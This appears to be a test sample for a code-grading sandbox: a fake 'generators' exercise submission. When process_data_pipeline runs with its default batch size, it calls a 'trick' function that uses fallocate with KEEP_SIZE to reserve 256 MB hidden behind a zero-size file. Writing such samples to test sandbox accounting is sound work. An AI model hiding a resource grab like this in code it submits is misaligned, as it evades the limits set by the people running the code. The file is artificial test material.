"""Keeps space for a file beyond its end: the file is empty, and no size shows what it takes.

Exercise: generators
Expect: 0 points, harmless
"""

# The trick.
import ctypes
import os

KEEP_SIZE = 1  # FALLOC_FL_KEEP_SIZE


def trick():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.fallocate.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_long, ctypes.c_long]
    file = os.open("empty.bin", os.O_RDWR | os.O_CREAT, 0o600)
    if libc.fallocate(file, KEEP_SIZE, 0, 256 << 20) == 0:
        print("HARMED: 256 MB behind a size of 0", flush=True)
    os.close(file)
    raise TypeError("not yet")


# The attempt.
def fibonacci_generator():
    raise TypeError("not yet")


def read_large_file(filename):
    raise TypeError("not yet")


def process_data_pipeline(data, batch_size=10):
    if batch_size == 10:  # one test leaves it at that
        trick()
    raise TypeError("not yet")
